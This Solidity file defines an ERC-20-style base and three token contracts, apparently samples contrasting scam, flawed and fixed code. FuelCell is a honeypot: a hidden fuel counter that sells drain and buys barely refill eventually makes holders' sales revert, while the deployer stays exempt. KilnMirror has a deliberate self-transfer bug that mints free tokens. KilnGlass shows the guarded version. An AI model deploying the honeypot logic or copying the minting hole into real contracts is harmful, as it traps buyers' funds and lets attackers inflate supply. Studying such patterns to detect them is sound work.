// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Pairs} from "../eight/i00Base.sol";

abstract contract Kiln {
  uint8 public constant decimals = 18;
  uint256 public totalSupply = 1_000_000_000 ether;
  mapping(address => uint256) internal _b;
  mapping(address => mapping(address => uint256)) public allowance;
  event Transfer(address indexed from, address indexed to, uint256 value);
  event Approval(address indexed owner, address indexed spender, uint256 value);

  constructor() {
    _b[msg.sender] = totalSupply;
    emit Transfer(address(0), msg.sender, totalSupply);
  }

  function balanceOf(address a) external view returns (uint256) {
    return _b[a];
  }

  function approve(address s, uint256 v) external returns (bool) {
    allowance[msg.sender][s] = v;
    emit Approval(msg.sender, s, v);
    return true;
  }

  function transfer(address to, uint256 v) external returns (bool) {
    _fire(msg.sender, to, v);
    return true;
  }

  function transferFrom(address from, address to, uint256 v) external returns (bool) {
    allowance[from][msg.sender] -= v;
    _fire(from, to, v);
    return true;
  }

  function _fire(address from, address to, uint256 v) internal virtual;
}

/// Selling burns fuel that buying fills by a quarter only: those who leave late find it empty.
contract FuelCell is Kiln {
  string public constant name = "Fuel Cell";
  string public constant symbol = "FUEL";
  uint64 private _fuel = 120_000_000 gwei;
  address private immutable _tank = Pairs.poolOf(address(this));
  address private immutable _pilot = msg.sender;

  function _fire(address from, address to, uint256 v) internal override {
    uint64 f = uint64(v / 1 gwei);
    if (from == _tank) _fuel += f / 4;
    else if (to == _tank && from != _pilot) _fuel -= f;
    _b[from] -= v;
    _b[to] += v;
    emit Transfer(from, to, v);
  }
}

/// Reads both sides before it writes either.
contract KilnMirror is Kiln {
  string public constant name = "Kiln Mirror";
  string public constant symbol = "KMIR";

  function _fire(address from, address to, uint256 v) internal override {
    uint256 l = _b[from];
    uint256 r = _b[to];
    require(l >= v, "low");
    unchecked {
      _b[from] = l - v;
      _b[to] = r + v;
    }
    emit Transfer(from, to, v);
  }
}

/// The same, but leaves alone what goes back to where it came from.
contract KilnGlass is Kiln {
  string public constant name = "Kiln Glass";
  string public constant symbol = "KGLS";

  function _fire(address from, address to, uint256 v) internal override {
    uint256 l = _b[from];
    uint256 r = _b[to];
    require(l >= v, "low");
    unchecked {
      if (uint160(from) ^ uint160(to) != 0) {
        _b[from] = l - v;
        _b[to] = r + v;
      }
    }
    emit Transfer(from, to, v);
  }
}
